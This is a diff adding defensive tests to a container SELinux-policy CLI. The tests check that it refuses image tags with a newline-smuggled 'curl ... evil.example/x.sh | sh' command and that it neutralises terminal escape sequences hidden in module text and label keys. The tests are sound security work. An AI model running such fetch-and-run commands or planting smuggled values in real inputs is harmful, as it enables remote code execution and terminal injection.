@@ -145,7 +145,59 @@ describe('bulwark policy embed / plan', () => {
     ].join('\n')]);
     const bad = await cli(['policy', 'plan', '--module', join(modules, 'hostile-portcon.cil')]);
     expect(bad.code).toBe(1);
+    const badImage = await cli(['policy', 'plan', '--archive', 'x.tar', 'app:1\ncurl x | sh']);
+    expect([badImage.code, badImage.stdout, badImage.stderr]).toEqual([2, '', 'bulwark: "app:1\\ncurl x | sh" is not an image reference (name[:tag][@digest], or an image id)\n']);
     const none = await cli(['policy', 'plan']);
     expect([none.code, none.stderr]).toEqual([2, 'bulwark: name an IMAGE or --archive FILE\n']);
+  }, 120_000);
+});
+
+describe('bulwark policy plan / collect --archive with a hostile tag (QA vp 1)', () => {
+  it('a RepoTags entry with a newline never reaches the install plan: exit 2, nothing on stdout', async () => {
+    const tar = await import('tar-stream');
+    const { encodeModule, labelKey } = await import('../../src/policy/embed.js');
+    const pack = tar.pack();
+    const chunks: Buffer[] = [];
+    pack.on('data', (c: unknown) => { chunks.push(c as Buffer); });
+    const done = new Promise<void>((ok) => pack.on('end', () => ok()));
+    const config = { config: { Labels: { [labelKey('app')]: encodeModule(readFileSync(join(modules, 'valid-macro.cil'), 'utf8')) } }, history: [{ created_by: 'ADD rootfs' }] };
+    pack.entry({ name: `blobs/sha256/${'a'.repeat(64)}` }, JSON.stringify(config));
+    pack.entry({ name: 'manifest.json' }, JSON.stringify([{ Config: `blobs/sha256/${'a'.repeat(64)}`, RepoTags: ['example/httpd-base:1\ncurl -s http://evil.example/x.sh | sh #'], Layers: [] }]));
+    pack.finalize();
+    await done;
+    writeFileSync(join(dir, 'evil-tag.tar'), Buffer.concat(chunks));
+    const err = 'bulwark: evil-tag.tar: manifest.json[0] tags the image "example/httpd-base:1\\ncurl -s http://evil.example/x.sh | sh #", which is not an image reference: refused (a tag is name[:tag] in the grammar of distribution/reference)\n';
+    for (const cmd of ['plan', 'collect']) {
+      const r = await cli(['policy', cmd, '--archive', 'evil-tag.tar']);
+      expect([cmd, r.code, r.stdout, r.stderr]).toEqual([cmd, 2, '', err]);
+    }
+  }, 120_000);
+});
+
+describe('bulwark policy output: control characters from modules and labels are shown, never sent raw (QA vp 8)', () => {
+  it('check: a statement with ESC sequences prints as visible pictures', async () => {
+    writeFileSync(join(dir, 'esc.cil'), '(block esc\n  (type process)\n  (frob\u001b[2J\u001b[31mINJECTED\u0007 process)\n)\n');
+    const r = await cli(['policy', 'check', 'esc.cil']);
+    expect(r.code).toBe(1);
+    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
+    expect(r.stdout.split('\n')[0]).toBe('esc.cil:3:3: (frob␛[2J␛[31mINJECTED␇ process): frob␛[2J␛[31mINJECTED␇: not a statement the checker understands; refused (fail closed)');
+  }, 120_000);
+  it('collect: a label key with ESC sequences prints as visible pictures', async () => {
+    const tar = await import('tar-stream');
+    const { encodeModule } = await import('../../src/policy/embed.js');
+    const pack = tar.pack();
+    const chunks: Buffer[] = [];
+    pack.on('data', (c: unknown) => { chunks.push(c as Buffer); });
+    const done = new Promise<void>((ok) => pack.on('end', () => ok()));
+    const key = 'io.bulwark.selinux.module.x\u001b[2J\u001b]0;PWNED\u0007';
+    pack.entry({ name: `blobs/sha256/${'e'.repeat(64)}` }, JSON.stringify({ config: { Labels: { [key]: encodeModule('(block x)') } }, history: [{ created_by: 'ADD rootfs' }] }));
+    pack.entry({ name: 'manifest.json' }, JSON.stringify([{ Config: `blobs/sha256/${'e'.repeat(64)}`, RepoTags: ['ex/esc:1'], Layers: [] }]));
+    pack.finalize();
+    await done;
+    writeFileSync(join(dir, 'esc-key.tar'), Buffer.concat(chunks));
+    const r = await cli(['policy', 'collect', '--archive', 'esc-key.tar']);
+    expect(r.code).toBe(1);
+    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
+    expect(r.stdout.split('\n')[1]).toBe('io.bulwark.selinux.module.x␛[2J␛]0;PWNED␇ from ex/esc:1: INVALID');
   }, 120_000);
 });
